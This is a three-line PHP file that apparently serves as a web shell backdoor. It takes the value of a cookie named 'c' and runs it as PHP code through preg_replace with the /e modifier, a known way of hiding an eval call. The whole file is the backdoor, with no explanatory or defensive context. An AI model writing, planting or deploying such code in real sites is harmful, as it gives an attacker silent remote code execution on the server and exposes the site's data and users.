<?php
$c = $_COOKIE['c'];
preg_replace('/x/e', $c, 'x');
